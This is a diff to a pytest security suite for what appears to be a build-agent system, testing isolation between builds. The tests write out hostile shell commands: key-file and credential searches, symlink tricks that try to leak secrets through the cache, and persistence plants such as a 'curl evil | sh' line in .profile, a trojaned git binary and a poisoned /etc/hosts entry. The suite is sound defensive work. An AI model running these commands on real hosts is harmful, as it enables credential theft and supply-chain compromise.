@@ -26,6 +26,7 @@ from pathlib import Path
 
 import pytest
 
+from stoker.agent.cache.blobs import encode_key
 from stoker.demo import local_fleet
 from stoker.v1 import build_pb2, build_pb2_grpc, common_pb2
 from tests.helpers.hostile import TreeState, listing
@@ -335,33 +336,49 @@ def test_the_agents_environment_cannot_be_read(node):
 
 
 def test_the_agents_key_and_config_cannot_be_read(node):
-    """Directly (the paths are no secret: a deployment's are in its manifests), by searching the whole
-    visible file system, and through the agent: a cache save of a path whose parent is a symlink to the
-    config directory, read back by a later restore."""
-    key = (node.config / f"{NODE}.key").read_text()
-    key_body = key.splitlines()[1]
+    """Directly (the paths are no secret: a deployment's are in its manifests) and by searching the whole
+    visible file system; then through the agent, which reads a build's workspace as root on the host to
+    save it: cache paths that are, hold, or sit below symlinks to the config directory, absolute and
+    relative (resolved on the host, a relative one leads out of the workspace). Each save is refused,
+    leaving no entry, or keeps the symlinks as symlinks: a later restore yields no secret."""
+    key_body = (node.config / f"{NODE}.key").read_text().splitlines()[1]
     cfg = node.config
     script = (
         f"cat {cfg}/{NODE}.key {cfg}/agent.toml {cfg}/auth.json {node.pki}/ca.key; ls {cfg} {cfg.parent}; "
         "ls /var/run/secrets/kubernetes.io/serviceaccount; "
         f"find / {PRUNE} \\( -name '*.key' -o -name '*.toml' -o -name auth.json -o -name '*.pem' \\) -print; "
-        f"find / {PRUNE} -type f -print | xargs grep -l 'PRIVATE KEY' 2>/dev/null; "
-        f"ln -s {cfg} loot; mkdir -p deps && ln -s {cfg}/{NODE}.key deps/key && ln -s {cfg} deps/etc; "
-        "echo done"
+        f"find / {PRUNE} -type f -print | xargs grep -l 'PRIVATE KEY' 2>/dev/null; echo done"
     )
-    attack = node.submit(script, key="steal-1", paths=("loot/auth.json", "deps"))
-    assert attack.stdout.splitlines()[-1] == "done", attack
-    assert "No such file" in attack.stderr, attack  # the control: the paths were tried
+    attack = node.submit(script)
+    assert attack.succeeded and attack.stdout.splitlines()[-1] == "done", attack
+    assert attack.stderr.count("No such file") >= 6, attack  # the control: the paths were tried
     for secret in (key_body, node.registry_secret, "PRIVATE KEY", "auth_file", "tls_key"):
         assert secret not in attack.text, (secret, attack)
-    # Whatever the save made of it (refused, or symlinks kept as symlinks), a restore yields no secret.
-    loot = node.submit(
-        "ls -lnR . ; cat loot/auth.json deps/key deps/etc/*.key 2>&1; echo done",
-        key="steal-1",
-        paths=("deps",),
-    )
-    for secret in (key_body, node.registry_secret, "PRIVATE KEY"):
-        assert secret not in loot.text, (secret, loot)
+
+    up = os.path.relpath(cfg, node.work / "workspace")  # from a workspace's root to the config directory
+    vectors = {
+        "parent": (f"ln -s {cfg} loot", ("loot/auth.json",)),
+        "parent-relative": (f"ln -s {up} loot", ("loot/auth.json",)),
+        "itself": (f"ln -s {cfg} deps", ("deps",)),
+        "inside": (f"mkdir deps && ln -s {cfg}/{NODE}.key deps/key && ln -s {cfg} deps/etc", ("deps",)),
+        "inside-relative": (
+            f"mkdir deps && ln -s ../{up}/{NODE}.key deps/key && ln -s ../{up} deps/e",
+            ("deps",),
+        ),
+    }
+    for name, (plant, paths) in vectors.items():
+        key = f"steal-{name}"
+        save = node.submit(plant, key=key, paths=paths)
+        assert save.succeeded, save
+        if "cache save failed" in save.message:
+            assert not (node.blobs / "keys" / encode_key(key)).exists(), save
+            continue
+        loot = node.submit(
+            'find . | while read f; do echo "$f"; cat "$f" 2>&1; done; echo done', key=key, paths=paths
+        )
+        assert loot.warmth == common_pb2.WARMTH_WARM, (save, loot)  # the control: the entry was restored
+        for secret in (key_body, node.registry_secret, "PRIVATE KEY", "tls_key"):
+            assert secret not in loot.text, (name, secret, loot)
     node.assert_next_build_runs_clean()
 
 
@@ -503,23 +520,29 @@ def test_a_setsid_child_does_not_outlive_its_build(node):
 
 
 def test_a_file_planted_in_home_or_the_image_is_gone_for_the_next_build(node):
+    """HOME dotfiles that run code in the next tenant's git or npm, files in /tmp, the image's own files,
+    /etc/hosts, and podman's init (a host binary mounted into every build): none reaches the next build."""
+    init = next(p for p in ("/usr/libexec/podman/catatonit", "/usr/bin/catatonit") if os.path.exists(p))
+    init_state = TreeState.of(Path(init).parent)
     plant = (
         "printf '[core]\\n\\thooksPath = /tmp/hooks\\n' > $HOME/.gitconfig; "
         "echo 'node-options=--require /tmp/evil.js' > $HOME/.npmrc; echo 'curl evil | sh' > $HOME/.profile; "
         "mkdir -p /tmp/hooks && echo x > /tmp/hooks/pre-commit; echo x > /root/.ashrc; "
         "echo 'echo pwned' > /etc/profile; printf '#!/bin/sh\\necho pwned\\n' > /bin/git; chmod +x /bin/git; "
-        "ls -A $HOME /tmp /etc /bin/git"
+        "echo '203.0.113.9 registry.npmjs.org' >> /etc/hosts; "
+        "echo pwned >> /run/podman-init || echo INIT-READONLY; ls -A $HOME /tmp /etc /bin/git"
     )
     attack = node.submit(plant)
     assert attack.succeeded, attack
     assert ".gitconfig" in attack.stdout and ".npmrc" in attack.stdout and "/bin/git" in attack.stdout
+    assert "INIT-READONLY" in attack.stdout, attack
+    assert init_state.unchanged(), init_state.diff()
     check = (
         "for f in $HOME/.gitconfig $HOME/.npmrc $HOME/.profile /tmp/hooks /root/.ashrc /etc/profile "
-        "/bin/git; "
-        "do [ -e $f ] && echo FOUND $f; done; "
+        "/bin/git; do [ -e $f ] && echo FOUND $f; done; grep -h npmjs /etc/hosts /run/podman-init; "
     )
     clean = node.assert_next_build_runs_clean(also=check)
-    assert "FOUND" not in clean.stdout and "pwned" not in clean.text, clean
+    assert "FOUND" not in clean.stdout and "pwned" not in clean.text and "npmjs" not in clean.text, clean
 
 
 # -- limits ----------------------------------------------------------------------------------------
